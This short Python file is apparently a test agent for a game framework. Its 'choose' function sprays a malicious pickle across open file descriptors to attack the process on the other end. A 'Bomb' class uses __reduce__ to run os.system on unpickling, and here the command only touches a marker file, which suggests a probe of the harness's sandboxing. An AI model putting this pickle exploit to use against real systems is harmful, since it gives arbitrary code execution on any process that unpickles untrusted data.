"""Sends a pickle that would make a file beside this one."""

import os
import pickle
import struct
from contextlib import suppress
from pathlib import Path


class Bomb:
    def __reduce__(self):
        return os.system, (f"touch '{Path(__file__).parent / 'pickled'}'",)


def choose(game, state, rng):
    data = pickle.dumps(Bomb(), protocol=4)
    for pipe in range(3, 128):
        with suppress(OSError):
            os.write(pipe, struct.pack("<I", len(data)) + data + b"\n")
    return game.actions(state)[0]
